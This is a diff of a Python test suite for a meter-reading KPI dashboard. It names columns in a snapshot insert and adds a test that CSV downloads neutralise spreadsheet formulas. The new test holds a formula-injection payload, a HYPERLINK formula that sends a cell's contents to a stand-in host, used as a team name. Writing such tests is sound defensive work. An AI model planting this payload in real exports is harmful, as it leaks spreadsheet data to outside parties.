@@ -60,8 +60,14 @@ def build_snapshot(path: Path, rows: list[tuple] = ROWS) -> Path:
         for period, team, due, read, missed, est, errors in rows:
             con.execute(
                 """
-                insert into marts.kpi_team_month values (
-                    ?, ?, ?, ?, ?, ?, 0, ?, ?, ?, ?, ?,
+                insert into marts.kpi_team_month (
+                    period, team, customers_due, customers_read, customers_missed, customers_estimated,
+                    customers_remote, customers_team_from_assignment, customers_with_error, meters_due,
+                    meters_with_error, kwh_due, kwh_error, actual_read_rate, missed_rate, estimated_rate,
+                    error_rate, error_rate_meter, error_rate_kwh, errors_per_10k, actual_read_rate_target,
+                    error_rate_target, config_version, computed_at
+                ) values (
+                    ?, ?, ?, ?, ?, ?, 0, 0, ?, ?, ?, ?, ?,
                     ?, ?, ?, ?, null, null, ?, 1.0, 0.001, ?, ?)
                 """,
                 [
@@ -274,3 +280,13 @@ def test_snapshot_without_mart_shows_info():
 def test_catalogs_have_identical_keys():
     assert set(CATALOG["zh"]) == set(CATALOG["en"])
     assert all(CATALOG[lang][key].strip() for lang in CATALOG for key in CATALOG[lang])
+
+
+def test_csv_download_cannot_run_formulas(downloads):
+    """A team name from the exports that a spreadsheet would evaluate is written as text; numbers stay numbers."""
+    evil = '=HYPERLINK("http://x.example/?"&A1,"点击")'
+    build_snapshot(home().published, [(p, evil if t == "抄表一队" else t, *rest) for p, t, *rest in ROWS])
+    run_app(month="2026-03")
+    lines = downloads["data"].decode("utf-8-sig").splitlines()
+    assert lines[1].startswith('"\'=HYPERLINK(""http://x.example/?""&A1,""点击"")",1000,990,6,4,1,99.0,')
+    assert not any(line.startswith(("=", '"=')) for line in lines)
